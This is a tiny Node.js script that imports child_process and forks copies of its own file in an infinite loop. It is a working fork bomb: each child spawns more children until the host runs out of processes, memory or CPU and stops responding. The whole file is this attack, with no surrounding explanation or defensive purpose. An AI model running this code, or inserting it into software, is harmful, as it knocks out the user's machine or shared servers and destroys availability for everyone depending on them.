import cp from 'node:child_process';

while (true) cp.fork(process.argv[1]);
